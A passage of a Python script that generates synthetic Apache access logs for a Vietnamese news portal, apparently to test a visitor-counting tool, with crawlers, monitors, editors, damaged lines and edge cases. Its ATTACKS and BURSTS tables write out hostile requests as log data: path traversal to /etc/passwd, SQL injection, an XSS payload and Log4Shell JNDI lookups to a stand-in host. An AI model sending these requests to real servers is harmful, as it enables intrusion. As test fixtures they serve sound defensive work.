    Special("over it, today", "198.51.100.219", "samsung-zalo", 21, "06:21:30", (600, 900)),
    Special("over it, in one second", "198.51.100.220", "windows", 21, "06:24:59", (3, 3, 3)),
    Special("an image is no page", "198.51.100.221", "iphone", 4, "10:00:00", (2_400,), "asset"),
    Special("nor is a 404", "198.51.100.222", "oppo", 5, "10:00:00", (2_400,), "missing"),
    Special("nor is a POST", "198.51.100.223", "edge", 6, "10:00:00", (2_400,), "post"),
    Special("nor is a HEAD", "198.51.100.224", "firefox", 10, "10:00:00", (2_400,), "head"),
    Special("nor is a 301", "198.51.100.225", "linux", 13, "10:00:00", (2_400,), "moved"),
    Special("nor is a feed", "198.51.100.226", "ipad", 17, "10:00:00", (2_400,), "feed"),
    Special("two behind one address", "198.51.100.227", "iphone", 18, "20:00:00", (600, 600)),
    Special("two behind one address", "198.51.100.227", "cubot", 18, "20:05:00", (600, 600)),
    Special("from mobile data", "100.66.7.19", "oppo", 18, "17:30:00", (120,)),
    Special("the same, on Wi-Fi now", "198.18.40.7", "oppo", 18, "17:34:00", (200,)),
    Special("three times in a day", "198.51.100.228", "ie-9", 19, "07:05:00", (60,)),
    Special("three times in a day", "198.51.100.228", "ie-9", 19, "11:35:00"),
    Special("three times in a day", "198.51.100.228", "ie-9", 19, "21:10:00", (300,)),
    # The office is 203.0.113.16/28; this IP is just outside.
    Special("no office address", "203.0.113.15", "windows", 19, "09:00:00", (75,)),
    Special("no office address", "203.0.113.32", "windows", 19, "09:30:00", (75,)),
    Special("documents are pages", "198.51.100.229", "windows", 6, "15:00:00", (40, 55), "", DOCUMENTS),
    Special("documents are pages", "198.51.100.230", "edge", 20, "09:12:00", (80, 61), "", DOCUMENTS),
    Special("online: the window's first second", "198.51.100.231", "android", 21, "09:50:00"),
    Special("gone one second before it", "198.51.100.232", "android", 21, "09:49:59"),
    Special("online: its last second", "198.51.100.233", "android", 21, "10:00:00"),
    Special("a second too late", "198.51.100.234", "android", 21, "10:00:01"),
    Special("online, and reads on", "198.51.100.235", "iphone", 21, "09:30:00", (1_680, 300)),
    Special("today, not online, back later", "198.51.100.236", "vivo", 21, "09:44:10", (1_210,)),
)

# --- Bots, monitors, editors and attacks ------------------------------------------------------


class Bot(NamedTuple):
    """A bot: its agent, its client IPs, its lines per day, and its requests (a key of HABITS)."""

    agent: str
    clients: tuple[str, ...]
    per_day: int
    habit: str = "crawl"


def block(prefix: str, first: int, count: int) -> tuple[str, ...]:
    """Return `count` consecutive IPs."""
    return tuple(f"{prefix}{first + i}" for i in range(count))


def claims(name: str) -> str:
    """Return the agent of a crawler that declares itself, in the oldest form."""
    return f"Mozilla/5.0 (compatible; {name})"


def poses(name: str, tail: str = "") -> str:
    """Return the agent of a crawler that begins like a browser's."""
    return f"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; {name}){tail}"


def phone(device: str, name: str, browser: str = "Mobile Safari/537.36") -> str:
    """Return the agent of a crawler that requests the page for phones."""
    return android(device, f"{browser} (compatible; {name})")


NEXUS = "6.0.1; Nexus 5X Build/MMB29P"
EVERGREEN = "Chrome/146.0.7680.177 Mobile Safari/537.36"
GOOGLE, BYTEDANCE = block("192.0.2.", 10, 6), block("192.0.2.", 70, 8)
BOTS = (
    Bot(claims("Googlebot/2.1; +http://www.google.com/bot.html"), GOOGLE, 130),
    Bot(phone(NEXUS, "Googlebot/2.1; +http://www.google.com/bot.html", EVERGREEN), GOOGLE, 110),
    Bot(phone(NEXUS, "GoogleOther", EVERGREEN), block("192.0.2.", 18, 2), 20),
    Bot("Googlebot-Image/1.0", block("192.0.2.", 16, 2), 20, "images"),
    Bot(
        poses("bingbot/2.0; +http://www.bing.com/bingbot.htm", " Chrome/136.0.0.0 Safari/537.36"),
        block("192.0.2.", 30, 5),
        150,
    ),
    Bot(
        claims("coccocbot-web/1.0; +http://help.coccoc.com/searchengine"),
        block("192.0.2.", 40, 3),
        110,
    ),
    Bot(poses("GPTBot/1.3; +https://openai.com/gptbot"), block("192.0.2.", 50, 4), 150),
    Bot(poses("ClaudeBot/1.0; +claudebot@anthropic.com"), block("192.0.2.", 60, 2), 90),
    Bot(phone("5.0", "Bytespider; spider-feedback@bytedance.com"), BYTEDANCE, 130),
    Bot(claims("AhrefsBot/7.0; +http://ahrefs.com/robot/"), block("192.0.2.", 80, 4), 110),
    Bot(claims("SemrushBot/7~bl; +http://www.semrush.com/bot.html"), block("192.0.2.", 90, 4), 80),
    Bot(
        phone("7.0;", "PetalBot;+https://webmaster.petalsearch.com/site/petalbot"),
        block("192.0.2.", 100, 3),
        30,
    ),
    # These do not declare themselves, but no browser sends such an agent.
    Bot(claims("Foo/1.0"), ("203.0.113.181",), 12),
    Bot("-", block("203.0.113.", 170, 9), 24, "probe"),
    Bot("Mozilla/5.0 zgrab/0.x", block("203.0.113.", 160, 4), 6, "probe"),
    Bot("python-requests/2.32.5", block("203.0.113.", 130, 3), 34, "feeds"),
    Bot("curl/8.14.1", ("203.0.113.140",), 12, "feeds"),
    Bot("Go-http-client/2.0", block("203.0.113.", 150, 4), 24),
    Bot("Dalvik/2.1.0 (Linux; U; Android 13; SM-A055F)", ("100.70.3.8", "100.70.3.9"), 12, "feeds"),
    Bot("okhttp/4.12.0", ("100.70.9.1",), 8, "feeds"),
    Bot(
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        block("2001:db8:face:b00c::", 1, 6),
        26,
        "preview",
    ),
    Bot("TelegramBot (like TwitterBot)", ("203.0.113.190",), 3, "preview"),
    Bot("Feedly/1.0 (+http://www.feedly.com/fetcher.html)", ("192.0.2.120",), 24, "feeds"),
    Bot(
        f"Mozilla/5.0 (X11; Linux x86_64) {KHTML} HeadlessChrome/140.0.0.0 Safari/537.36",
        ("203.0.113.200",),
        14,
    ),
)

# The requests of bots: (share, (path, status)). {article}, {section} and {n} are filled in.
HABITS: dict[str, tuple[tuple[float, tuple[str, int]], ...]] = {
    "crawl": (
        (56, ("{article}", 200)),
        (10, ("{article}", 304)),
        (8, ("{section}?page={n}", 200)),
        (6, ("{section}", 200)),
        (5, ("/robots.txt", 200)),
        (4, ("/tin-tuc-su-kien/bai-cu-{n}", 404)),
        (3, ("/sitemap.xml", 200)),
        (2, ("/", 200)),
        (2, ("{article}/", 301)),
        (1, ("/tim-kiem?q=tag{n}", 200)),
    ),
    "images": ((5, ("/upload/2026/anh-{n}.jpg", 200)), (1, ("/robots.txt", 304))),
    "feeds": (
        (8, ("/rss", 200)),
        (4, ("/feed", 304)),
        (3, ("/", 200)),
        (1, ("{section}/feed/", 200)),
    ),
    "preview": ((8, ("{article}", 200)), (1, ("/upload/2026/anh-{n}.jpg", 206))),
    "probe": ((5, ("/", 200)), (2, ("/.git/config", 404)), (1, ("/actuator/health", 404))),
}


class Monitor(NamedTuple):
    """A program that sends one request at a fixed interval: every `every` seconds, from `first` on."""

    agent: str
    client: str
    method: str
    path: str
    every: int
    first: int


SELF = f"Mozilla/5.0 (X11; Linux x86_64) {KHTML} Chrome/130.0.0.0 Safari/537.36"
DUMMY = "Apache/2.4.65 (Debian) (internal dummy connection)"
UPTIME_ROBOT = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
MONITORS = (
    # The server checks itself, with a browser's agent: only its IP shows that.
    Monitor(SELF, "127.0.0.1", "GET", "/", 300, 2),
    Monitor(SELF, "::1", "GET", "/dich-vu-cong", 7_200, 31),
    Monitor(DUMMY, "::1", "OPTIONS", "*", 10_800, 77),
    Monitor(UPTIME_ROBOT, "2001:db8:ffff::51", "HEAD", "/", 300, 143),
    Monitor("Site24x7", "192.0.2.201", "GET", "/", 600, 288),
    Monitor("Zabbix 7.0.12", "192.0.2.202", "GET", "/dich-vu-cong", 600, 411),
    Monitor("Better Uptime Bot", "192.0.2.203", "GET", "/", 600, 95),
)

OFFICE = "203.0.113.16/28"
# The editors' computers: they read their own portal all day, and must not be counted.
DESKS = (
    ("203.0.113.18", "windows"),
    ("203.0.113.18", "coccoc"),
    ("203.0.113.19", "edge"),
    ("203.0.113.22", "windows-7"),
    ("203.0.113.22", "iphone"),
    ("203.0.113.30", "firefox"),
    ("203.0.113.31", "windows"),
)
OFFICE_LINES = 64  # on a working day


class Burst(NamedTuple):
    """An attack: all of ATTACKS, `rounds` times, with at most two seconds between two requests."""

    day: int
    clock: str
    client: str
    agent: str
    rounds: int


BURSTS = (
    Burst(5, "02:11:08", "203.0.113.210", "python-requests/2.31.0", 3),
    Burst(9, "23:58:30", "203.0.113.211", "Mozilla/5.0 (compatible; Foo/1.0)", 3),
    # A browser's agent, so every rule classifies it as a person; but it has no page view.
    Burst(14, "03:40:00", "203.0.113.212", AGENTS["windows"].text, 4),
    Burst(17, "06:24:20", "203.0.113.213", '\\"Mozilla/5.0 (Windows NT 10.0)\\"', 3),
    Burst(20, "04:02:41", "203.0.113.214", "Mozilla/5.0 ${jndi:ldap://192.0.2.250:1389/a}", 2),
)
# Requests as Apache logs them: (request line, status, bytes, referrer).
ATTACKS = (
    ("GET /wp-login.php HTTP/1.1", 404, 6_127, "-"),
    ("POST /wp-login.php HTTP/1.1", 404, 6_127, f"{ORIGIN}/wp-login.php"),
    ("POST /xmlrpc.php HTTP/1.1", 404, 6_127, "-"),
    ("GET /.env HTTP/1.1", 403, 1_199, "-"),
    ("GET /.git/HEAD HTTP/1.1", 403, 1_199, "-"),
    ("GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", 404, 6_127, "-"),
    ("GET /../../../../etc/passwd HTTP/1.1", 400, 226, "-"),
    ("GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", 400, 226, "-"),
    ('GET /tim-kiem?q=1\'+UNION+SELECT+\\"a\\",\\"b\\"--+- HTTP/1.1', 403, 1_199, "-"),
    ("GET /?x=${jndi:ldap://192.0.2.250:1389/a} HTTP/1.1", 403, 1_199, "-"),
    ("GET /lien-he HTTP/1.1", 403, 1_199, "${jndi:dns://192.0.2.250/r}"),
    ("GET / HTTP/1.1", 403, 1_199, 'x\\" onmouseover=\\"alert(1)'),
    ("\\x16\\x03\\x01", 400, 226, "-"),
    ('\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03\\"\\xb1', 400, 226, "-"),
    ("-", 408, 0, "-"),
    ("", 400, 226, "-"),
    ("CONNECT example.com:443 HTTP/1.1", 405, 299, "-"),
    ("PROPFIND / HTTP/1.1", 405, 299, "-"),
)
BARE = {"\\x16\\x03\\x01", "-", ""}  # requests that end before an agent is sent

# Damaged lines and their times: power cuts, a full disk, two writers in one file.
DAMAGED = (
    (2, "03:14:07", b"198.18.44.2 - - [02/Nov/2026:03:1"),
    (5, "11:02:55", b'100.66.91.4 - - [05/Nov/2026:11:02:55 +0700] "GET /van-ban-chi-dao/cong-die'),
    # NULs, where a file system allocated space without data
    (8, "22:47:31", b"\0" * 46 + b"6.0.1; Nexus 5X Build/MMB29P) Apple"),
    (10, "04:31:00", b'192.0.2.31 - - [10/Nov/2026:04:31:00 +0700] "GET / HTTP/1.1" 200'),
    # bytes that are not UTF-8, with bytes that some readers treat as a line's end (VT, FF, FS, NEL)
    (13, "15:20:42", b'\xff\xfe\x0b\x8f\x0c\xc3\x28"\x1c\x85\xed\xa0\x80 "GET\0\\ \xe2\x80\xa8" 2'),
    # the closing quote is missing, so the field has no end
    (
        17,
        "09:05:13",
        b'100.66.12.77 - - [17/Nov/2026:09:05:13 +0700] "GET / HTTP/2.0" 200 8 "-" "Moz',
    ),
    (20, "18:40:27", b'" 304 - "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"'),
    (21, "08:16:39", b'198.18.9.61 - - [21/Nov/2026:08:16:39 +0700] "GET /thong-bao HTTP/2.0" 2'),
)

# --- One showcase log for each format ---------------------------------------------------------

MUSEUM = "yty.example:80"  # the second portal of vhost_combined.log


class Exhibit(NamedTuple):
    """One line; common.log has no referrer or agent, and only vhost_combined.log has the host and port."""

    why: str
    time: str
    request: str
    status: int = 200
    size: str = "5120"
    client: str = "192.0.2.10"
    user: str = "-"
    referer: str = "-"
    agent: str = AGENTS["android"].text
    vhost: str = f"{SITE}:443"


def morning(minute: int) -> str:
    """Return the time of a minute on the last morning, as the log writes it."""
    return f"21/Nov/2026:07:{minute:02d}:00 +0700"


SHOWCASE = (
    Exhibit("plain", morning(0), "GET / HTTP/1.1"),
    Exhibit("nothing sent", morning(1), "GET / HTTP/1.1", 304, "-", referer=f"{ORIGIN}/"),
    Exhibit("over 32 bits", morning(2), "GET /tai-lieu/ban-do.zip HTTP/1.1", size="5368709120"),
    Exhibit("IPv6", morning(3), "GET /lien-he HTTP/1.1", client="2001:db8::9:7", vhost=MUSEUM),
    Exhibit("loopback", morning(4), "OPTIONS * HTTP/1.0", client="::1", agent=DUMMY),
    Exhibit("a host name", morning(5), "GET / HTTP/1.0", client="may-12.example.net", vhost=MUSEUM),
    Exhibit("a user", morning(6), "GET /quan-tri/ HTTP/1.1", user="bientap"),
    Exhibit("of a domain", morning(7), "GET /quan-tri/ HTTP/1.1", user="BATXAT\\\\lan"),
    Exhibit("with spaces", morning(8), "GET /quan-tri/ HTTP/1.1", 401, "381", user="le thi sen"),
    Exhibit("HTTP/0.9 names no version", morning(9), "GET /", vhost=MUSEUM),
    Exhibit("HTTP/2", morning(10), "GET /thong-bao HTTP/2.0"),
    Exhibit("HTTP/3", morning(11), "GET /thong-bao HTTP/3.0"),
    Exhibit("POST", morning(12), "POST /binh-luan HTTP/1.1", 302, "-", vhost=MUSEUM),
    Exhibit("a quote in the address", morning(13), 'GET /tim-kiem?q=\\"y+ty\\" HTTP/1.1'),
    Exhibit("a space in it", morning(14), "GET /tim-kiem?q=y ty HTTP/1.1"),
    Exhibit("encoded", morning(15), "GET /du-l%E1%BB%8Bch/y-t%C3%BD HTTP/1.1", vhost=MUSEUM),
    Exhibit("raw letters", morning(16), "GET /b\\xc3\\xa1t-x\\xc3\\xa1t HTTP/1.1", 404, "612"),
    Exhibit("TLS on a plain port", morning(17), "\\x16\\x03\\x01\\x02", 400, "226", agent="-"),
    Exhibit("said nothing in time", morning(18), "-", 408, "-", agent="-", vhost=MUSEUM),
    Exhibit("an empty request", morning(19), "", 400, "226", agent="-"),
    Exhibit("quotes in the agent", morning(20), "GET / HTTP/1.1", agent=AGENTS["tv"].text),
    Exhibit("quotes in the referrer", morning(21), "GET /lien-he HTTP/1.1", referer=QUOTED),
    Exhibit("ends in a backslash", morning(22), "GET / HTTP/1.1", agent="Mozilla/5.0 \\\\"),
    Exhibit("east by a half hour", "21/Nov/2026:05:53:00 +0530", "GET /a HTTP/1.1", vhost=MUSEUM),
    Exhibit("Greenwich", "21/Nov/2026:00:24:00 +0000", "GET /gioi-thieu HTTP/1.1"),
    Exhibit("west by a half hour", "20/Nov/2026:20:55:00 -0330", "GET /gioi-thieu HTTP/1.1"),
)
TORN = '192.0.2.10 - - [21/Nov/2026:07:26:00 +0700] "GET /thong-b'  # the one reject, at the end


def common(row: Exhibit) -> str:
    """Return a line in the format %h %l %u %t "%r" %>s %b."""
    return f'{row.client} - {row.user} [{row.time}] "{row.request}" {row.status} {row.size}'


def combined(row: Exhibit) -> str:
    """Return a line in the common format with "%{Referer}i" "%{User-Agent}i" appended."""
    return f'{common(row)} "{row.referer}" "{row.agent}"'


def vhost_combined(row: Exhibit) -> str:
    """Return a line in Debian's format: the combined one after %v:%p, with %O for %b. %O is never "-"."""
    counted = row._replace(size="0") if row.size == "-" else row
    return f"{row.vhost} {combined(counted)}"


FORMATS: dict[str, Callable[[Exhibit], str]] = {
    "common": common,
    "combined": combined,
    "vhost_combined": vhost_combined,
}


def showcase(name: str) -> bytes:
    """Return the content of formats/`name`.log."""
    torn = f"{SHOWCASE[0].vhost} {TORN}" if name == "vhost_combined" else TORN
    return "".join(f"{line}\n" for line in [*map(FORMATS[name], SHOWCASE), torn]).encode()


# --- Random choices ---------------------------------------------------------------------------


class Wheel(Generic[Item]):
    """Draws items at random, in proportion to their weights."""

    def __init__(self, rows: Iterable[tuple[float, Item]]) -> None:
        pairs = list(rows)
        self._items = [item for _, item in pairs]
        self._bounds = list(accumulate(weight for weight, _ in pairs))

    def draw(self, rng: random.Random) -> Item:
        """Draw one item."""
        at = bisect_right(self._bounds, rng.random() * self._bounds[-1])
        return self._items[min(at, len(self._items) - 1)]


def hours(shares: Sequence[int]) -> Wheel[int]:
    """Return a wheel of the hours of a day."""
    return Wheel([(share, hour) for hour, share in enumerate(shares)])


WAY_WHEELS = {name: Wheel(rows) for name, rows in WAYS.items()}
NEXT_WHEELS = {kind: Wheel(rows) for kind, rows in NEXT.items()}
HABIT_WHEELS = {name: Wheel(rows) for name, rows in HABITS.items()}
VIEWS_WHEEL = Wheel(VIEWS_IN_A_VISIT)
HOMES_WHEEL, FRONTS_WHEEL, ENDINGS_WHEEL = Wheel(HOMES), Wheel(FRONTS), Wheel(ENDINGS)
PAGES_WHEEL, SEARCHES_WHEEL = Wheel(PAGES), Wheel(SEARCHES)
THEME_WHEEL, BESIDE_WHEEL = Wheel(THEME), Wheel(BESIDE)
HOUR_WHEELS = [
    hours(FROST if day == 21 else WEEKEND if day % 7 in (0, 1) else WEEKDAY) for day in range(1, 22)
]
LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


def token(rng: random.Random, length: int) -> str:
    """Return random characters, like those of a click's id."""
    return "".join(rng.choices(LETTERS, k=length))


# --- The plan of the visits -------------------------------------------------------------------


class Visitor(NamedTuple):
    """A visitor, as the log identifies one: the client IP, and the agent (a key of AGENTS)."""

    client: str
    agent: str


@dataclass(frozen=True, slots=True)
class Walk:
    """Consecutive page views of a visitor: one visit, or several where a special case has longer gaps."""

    visitor: Visitor
    views: tuple[int, ...]
    special: Special | None = None

    def begins(self) -> list[int]:
        """Return the times at which its visits begin."""
        return [self.views[0], *(b for a, b in pairwise(self.views) if b - a > VISIT_GAP)]

    def online(self) -> bool:
        """Whether a page view is in the online window that ends at T."""
        return any(T - ONLINE_WINDOW <= view <= T for view in self.views)


@dataclass
class Plan:
    """All walks, and the spans that each visitor's walks take."""

    walks: list[Walk] = field(default_factory=list)
    taken: dict[Visitor, list[tuple[int, int]]] = field(default_factory=lambda: defaultdict(list))

    def add(self, walk: Walk) -> bool:
        """Add a walk and return True, unless it would join another visit of the same visitor."""
        first, last = walk.views[0] - VISIT_GAP, walk.views[-1] + VISIT_GAP
        if any(begin <= last and first <= end for begin, end in self.taken[walk.visitor]):
            return False
        self.taken[walk.visitor].append((walk.views[0], walk.views[-1]))
        self.walks.append(walk)
        return True

    def begun(self, first: int, last: int) -> int:
        """Return the number of visits that begin from `first` to `last`, both included."""
        return sum(first <= begin <= last for walk in self.walks for begin in walk.begins())


def address(rng: random.Random, kind: str) -> str:
    """Draw a client IP of a kind, as Apache writes it."""
    if kind == "carrier":
        return f"100.{rng.choice((66, 81, 109))}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    if kind == "home":
        return f"198.{rng.choice((18, 19))}.{rng.randrange(64)}.{rng.randrange(1, 255)}"
    if kind == "school":
        return f"198.51.100.{rng.randrange(1, 190)}"
    network = int(ipaddress.IPv6Address(rng.choice(("2001:db8:1c00::", "2001:db8:2a10::"))))
    return str(ipaddress.IPv6Address(network | rng.randrange(1 << 12) << 64 | rng.getrandbits(64)))


def people(rng: random.Random) -> Wheel[Visitor]:
    """Draw all visitors; each has a weight for how often it visits."""
    kinds, names = Wheel(ADDRESSES), Wheel((agent.weight, name) for name, agent in AGENTS.items())
    found: dict[Visitor, float] = {}
    while len(found) < PEOPLE:
        kind = kinds.draw(rng)
        client = address(rng, kind)
        for _ in range(rng.randint(*BEHIND_ONE[kind])):
            often = min(rng.paretovariate(REGULAR), MOST_OFTEN)
            found.setdefault(Visitor(client, names.draw(rng)), often)
    return Wheel((often, visitor) for visitor, often in found.items())


def pause(rng: random.Random) -> int:
    """Draw the seconds between two page views of a visit."""
    if rng.random() < 0.025:
        return rng.randint(900, VISIT_GAP - 5)
    return min(max(3, round(rng.lognormvariate(4.0, 1.0))), 900)


def stroll(rng: random.Random, visitor: Visitor, start: int) -> Walk:
    """Draw an ordinary visit that begins at `start`."""
    pauses = (pause(rng) for _ in range(VIEWS_WHEEL.draw(rng) - 1))
    views = accumulate(pauses, initial=start)
    return Walk(visitor, tuple(view for view in views if view <= max(start, END)))


def special_walk(special: Special) -> Walk:
    """Return the walk of a row of SPECIALS."""
    views = accumulate(special.gaps, initial=moment(special.day, special.clock))
    return Walk(Visitor(special.client, special.agent), tuple(views), special)


def fill(
    plan: Plan, draw: Callable[[], Walk], wanted: int, fits: Callable[[Walk], bool] | None = None
) -> None:
    """Add `wanted` walks that fit."""
    while wanted > 0:
        walk = draw()
        if fits is None or fits(walk):
            wanted -= plan.add(walk)


def make_plan(rng: random.Random) -> Plan:
    """Plan all visits: first the special cases, then as many as each day still lacks."""
    readers, plan = people(rng), Plan()
    for special in SPECIALS:
        if not plan.add(special_walk(special)):
            raise ValueError(f"{special.why}: {special.client} is taken at {special.clock}")

    def on(day: int) -> Walk:
        hour = HOUR_WHEELS[day - 1].draw(rng)
        start = (day - 1) * DAY + hour * HOUR + rng.randrange(HOUR)
        return stroll(rng, readers.draw(rng), start)

    def between(first: int, last: int) -> Walk:
        return stroll(rng, readers.draw(rng), rng.randint(first, last))

    for day in range(1, 21):
        lacking = VISITS_PER_DAY[day - 1] - plan.begun((day - 1) * DAY, day * DAY - 1)
        fill(plan, partial(on, day), lacking)
    online = ONLINE - sum(walk.online() for walk in plan.walks)
    fill(plan, partial(between, T - 2_100, T), online, Walk.online)
    lacking = TODAY - plan.begun(moment(21, "00:00:00"), T)
    fill(plan, partial(on, 21), lacking, lambda walk: walk.views[-1] < T - ONLINE_WINDOW)
    fill(plan, partial(between, T + 1, END - 60), VISITS_AFTER)
    return plan


# --- The articles of each day -----------------------------------------------------------------


class Article(NamedTuple):
    """One article: its path, its publication, and its weight among articles of the same age."""

    path: str
    slug: str
    day: int
    published: int
    weight: float


class Library:
    """The articles, and how often each is read on each day."""

    def __init__(self, rng: random.Random) -> None:
        rows = [(section, *row) for section, rows in ARTICLES.items() for row in rows]
        ranks = rng.sample(range(1, len(rows) + 1), len(rows))
        self.articles = [
            Article(f"/{section}/{slug}", slug, day, self._published(day, slug), rank**-0.8)
            for (section, day, slug), rank in zip(rows, ranks, strict=True)
        ]
        self.sections = [f"/{section}" for section in ARTICLES]
        self.shares = [token(rng, 30) for _ in range(SHARED_LINKS)]
        self._wheels = [Wheel(self._reading(day)) for day in range(1, 22)]

    @staticmethod
    def _published(day: int, slug: str) -> int:
        """Return the time of publication, within office hours of the day; -1 before November."""
        return moment(day, "07:30:00") + zlib.crc32(slug.encode()) % (9 * HOUR) if day > 0 else -1

    def _reading(self, day: int) -> list[tuple[float, Article]]:
        """Return each article with its share of a day's views: news for some days, old ones by search."""
        fixed = {a: RUSH.get((day, a.slug), ALWAYS_READ.get(a.slug, 0.0)) for a in self.articles}
        free = {
            a: a.weight * (7.0 * math.exp((a.day - day) / 2.0) + 0.8)
            for a in self.articles
            if not fixed[a] and a.day <= day
        }
        scale = (1.0 - sum(fixed.values())) / sum(free.values())
        return [(fixed[a] or free.get(a, 0.0) * scale, a) for a in self.articles]

    def article(self, rng: random.Random, at: int) -> Article:
        """Draw an article that is published at a time, by its share of the day."""
        while True:
            found = self._wheels[at // DAY].draw(rng)
            if found.published <= at:
                return found

    def published(self, at: int) -> list[Article]:
        """Return the articles that are published at a time."""
        return [article for article in self.articles if article.published <= at]

    def page(self, rng: random.Random, kind: str, at: int, tracking: str = "") -> str:
        """Draw the target of a page of a kind, as a browser requests it."""
        if kind == "home":
            target = "/" if tracking else HOMES_WHEEL.draw(rng)
        elif kind == "article":
            target = self.article(rng, at).path + ("" if tracking else ENDINGS_WHEEL.draw(rng))
        elif kind == "section":
            target = rng.choice(self.sections) + FRONTS_WHEEL.draw(rng)
        else:
            target = (SEARCHES_WHEEL if kind == "search" else PAGES_WHEEL).draw(rng)
        if not tracking:
            return target
        share, click = self.shares[zlib.crc32(target.encode()) % SHARED_LINKS], token(rng, 16)
        return f"{target}?{TRACKING[tracking].format(share=share, click=click)}"


# --- Lines ------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Line:
    """One line of the log. Apache writes it after the response, `took` seconds after `at`."""

    at: int
    client: str
    agent: str
    request: str
    status: int
    size: int
    referer: str = "-"
    took: int = 0

    def text(self) -> bytes:
        """Return the line in the combined format; %b is "-" for an empty response."""
        day, rest = divmod(self.at, DAY)
        clock = f"{rest // HOUR:02d}:{rest // 60 % 60:02d}:{rest % 60:02d}"
        return (
            f"{self.client} - - [{day + 1:02d}/Nov/2026:{clock} +0700] "
            f'"{self.request}" {self.status} {self.size or "-"} "{self.referer}" "{self.agent}"'
        ).encode("ascii")


def size_of(path: str) -> int:
    """Return the size of a page or file in bytes, derived from its path."""
    bare = path.partition("?")[0]
    return SMALL.get(bare, 4_000 + zlib.crc32(bare.encode()) % 34_000)


class Step(NamedTuple):
    """One page view of a walk."""

    at: int
    target: str
    referer: str


def steps(rng: random.Random, library: Library, walk: Walk) -> Iterator[Step]:
    """Draw the pages of a walk. The portal sets `Referrer-Policy: origin`: no path in referrers."""
    referer, kind, tracking = WAY_WHEELS[AGENTS[walk.visitor.agent].way].draw(rng)
    target = library.page(rng, kind, walk.views[0], tracking)
    for n, at in enumerate(walk.views):
        if walk.special and walk.special.paths:
            target = walk.special.paths[n % len(walk.special.paths)]
        yield Step(at, target, referer)
        onward = NEXT_WHEELS[kind].draw(rng)
        if onward != "again":
            kind, referer = onward, f"{ORIGIN}/"
            target = library.page(rng, kind, at)


SLOW_WHEEL = Wheel(((92, 0), (6, 1), (1, 3), (1, 9)))  # seconds until the response is sent
PARTS_FIRST = Wheel(((26, 0), (30, 1), (24, 2), (14, 3), (6, 4)))
PARTS_LATER = Wheel(((70, 0), (25, 1), (5, 2)))


def parts(rng: random.Random, target: str, wheel: Wheel[int]) -> list[str]:
    """Draw the assets that a page loads; after the first page most are in the cache."""
    wanted = wheel.draw(rng)
    found = dict.fromkeys(THEME_WHEEL.draw(rng) for _ in range(wanted))
    number = re.search(r"-(\d{6})(?:\?|$)", target)
    if number and wanted and rng.random() < 0.5:
        found[f"/upload/2026/{number[1]}.jpg"] = None
    return list(found)


def ask(visitor: Visitor, at: int, asked: Asked, referer: str = "-", took: int = 0) -> Line:
    """Return the line of a request by a person's browser."""
    agent = AGENTS[visitor.agent]
    request = f"{asked.method} {asked.path} {agent.protocol}"
    return Line(at, visitor.client, agent.text, request, asked.status, asked.size, referer, took)


def walk_lines(rng: random.Random, library: Library, walk: Walk) -> Iterator[Line]:
    """Yield the lines of all requests of a walk."""
    seen: set[str] = set()
    for at, target, referer in steps(rng, library, walk):
        again = rng.random() < (0.35 if target in seen else 0.02)
        slow = 38 if target in DOCUMENTS else SLOW_WHEEL.draw(rng)
        page = Asked("GET", target, 304, 0) if again else Asked("GET", target, 200, size_of(target))
        yield ask(walk.visitor, at, page, referer, slow)
        wheel = PARTS_LATER if seen else PARTS_FIRST
        yield from asset_lines(rng, walk.visitor, at + slow, parts(rng, target, wheel))
        if rng.random() < 0.10:
            yield ask(walk.visitor, at + rng.randrange(25), BESIDE_WHEEL.draw(rng), f"{ORIGIN}/")
        seen.add(target)
    if walk.special and walk.special.between:
        middle = walk.views[-1] - walk.special.gaps[-1] // 2
        yield ask(walk.visitor, middle, BETWEEN[walk.special.between], f"{ORIGIN}/")


def asset_lines(rng: random.Random, visitor: Visitor, at: int, paths: Iterable[str]) -> Iterator[Line]:
    """Yield the lines of the assets that a page loads."""
    for path in paths:
        status = 206 if path.endswith(".mp4") else 304 if rng.random() < 0.25 else 200
        asked = Asked("GET", path, status, 0 if status == 304 else size_of(path))
        yield ask(visitor, at + rng.choice((0, 0, 0, 1, 1, 2)), asked, f"{ORIGIN}/")


def stray_lines(rng: random.Random, walks: Sequence[Walk]) -> Iterator[Line]:
    """Yield lines of people without a page view: a dead link, a feed reader, a lost connection."""
    for day in range(1, 22):
        for _ in range(16):
            at = (day - 1) * DAY + HOUR_WHEELS[day - 1].draw(rng) * HOUR + rng.randrange(HOUR)
            visitor = rng.choice(walks).visitor
            if rng.random() < 0.3:
                yield Line(at, visitor.client, "-", "-", 408, 0)
            else:
                yield ask(visitor, at, BESIDE_WHEEL.draw(rng))


def bot_lines(rng: random.Random, library: Library) -> Iterator[Line]:
    """Yield the lines of the bots, in runs of 3 to 18 lines from one IP."""
    for bot in BOTS:
        for day in range(1, 22):
            left = round(bot.per_day * rng.uniform(0.8, 1.2))
            while left > 0:
                run = min(left, rng.randint(3, 18))
                left -= run
                yield from bot_run(rng, library, bot, (day - 1) * DAY + rng.randrange(DAY), run)


def bot_run(rng: random.Random, library: Library, bot: Bot, at: int, run: int) -> Iterator[Line]:
    """Yield the lines of one run."""
    client, articles = rng.choice(bot.clients), library.published(at)
    for _ in range(run):
        if at > END:
            return
        path, status = HABIT_WHEELS[bot.habit].draw(rng)
        article, section = rng.choice(articles).path, rng.choice(library.sections)
        path = path.format(article=article, section=section, n=rng.randint(1, 40))
        size = {200: size_of(path), 206: 20_480, 301: 312, 304: 0}.get(status, 6_127)
        yield Line(at, client, bot.agent, f"GET {path} HTTP/1.1", status, size)
        at += rng.randint(1, 12)


def monitor_lines() -> Iterator[Line]:
    """Yield the lines of the monitors."""
    for row in MONITORS:
        size = {"OPTIONS": 126, "HEAD": 0, "GET": size_of(row.path)}[row.method]
        request = f"{row.method} {row.path} HTTP/1.1"
